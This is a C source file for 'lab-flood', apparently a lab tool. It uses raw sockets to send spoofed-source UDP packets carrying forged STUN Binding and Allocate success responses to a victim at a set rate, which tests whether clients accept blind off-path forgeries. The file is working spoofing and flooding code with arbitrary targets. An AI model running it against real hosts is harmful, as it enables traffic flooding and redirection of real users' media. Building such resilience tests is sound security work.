/* Sends forged answers to Binding and Allocate in the name of a server (IPv4), so many a second:
 *
 *     lab-flood SERVER PORT VICTIM PORT SECONDS RATE
 *
 * All is right in them but what somebody off the path can't know: the transaction id, and the
 * key. They name 198.18.0.66. Says how many it sent. */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define STUN_SIZE 44

typedef struct forged {
    struct iphdr ip;
    struct udphdr udp;
    uint8_t stun[STUN_SIZE];
} forged;

static double seconds(void)
{
    struct timespec time;

    (void)clock_gettime(CLOCK_MONOTONIC, &time);
    return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

/* XOR-MAPPED-ADDRESS (0x0020) and XOR-RELAYED-ADDRESS (0x0016) of 198.18.0.66:6666 (RFC 8489
 * §14.2). */
static void forge_stun(uint8_t *stun, bool allocate)
{
    static const uint8_t cookie[] = {0x21, 0x12, 0xA4, 0x42};
    static const uint8_t address[] = {0xC6, 0x12, 0x00, 0x42};
    static const uint8_t types[] = {0x20, 0x16};

    stun[0] = 0x01;
    stun[1] = allocate ? 0x03 : 0x01;
    stun[2] = 0;
    stun[3] = STUN_SIZE - 20;
    memcpy(stun + 4, cookie, 4);
    for (size_t i = 0; i < 2; i++) {
        uint8_t *attribute = stun + 20 + 12 * i;
        const uint8_t head[] = {0, types[i], 0, 8, 0, 1, 0x1A ^ 0x21, 0x0A ^ 0x12};
        memcpy(attribute, head, sizeof head);
        for (size_t k = 0; k < 4; k++) {
            attribute[8 + k] = address[k] ^ cookie[k];
        }
    }
}

static void forge(forged *packet, char **words, bool allocate)
{
    packet->ip = (struct iphdr){.version = 4,
                                .ihl = 5,
                                .ttl = 64,
                                .protocol = IPPROTO_UDP,
                                .saddr = inet_addr(words[1]),
                                .daddr = inet_addr(words[3])};
    packet->udp = (struct udphdr){.source = htons((uint16_t)atoi(words[2])),
                                  .dest = htons((uint16_t)atoi(words[4])),
                                  .len = htons(sizeof packet->udp + STUN_SIZE)};
    forge_stun(packet->stun, allocate);
}

int main(int count, char **words)
{
    static forged packets[BATCH];
    struct iovec pieces[BATCH];
    struct mmsghdr messages[BATCH] = {0};
    int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
    unsigned long sent = 0;

    if (count != 7 || fd < 0) {
        perror("lab-flood");
        return 2;
    }
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = inet_addr(words[3])};
    for (unsigned i = 0; i < BATCH; i++) {
        forge(&packets[i], words, i % 2 == 1);
        pieces[i] = (struct iovec){.iov_base = &packets[i], .iov_len = sizeof packets[i]};
        messages[i].msg_hdr = (struct msghdr){
            .msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &pieces[i], .msg_iovlen = 1};
    }
    double start = seconds();
    for (double now = start; now - start < atof(words[5]); now = seconds()) {
        if ((double)sent > (now - start) * atof(words[6])) {
            (void)usleep(100);
            continue;
        }
        for (unsigned i = 0; i < BATCH; i++) {
            (void)!getrandom(packets[i].stun + 8, 12, 0);
        }
        int went = sendmmsg(fd, messages, BATCH, 0);
        sent += went > 0 ? (unsigned long)went : 0;
    }
    (void)printf("%lu\n", sent);
    return 0;
}
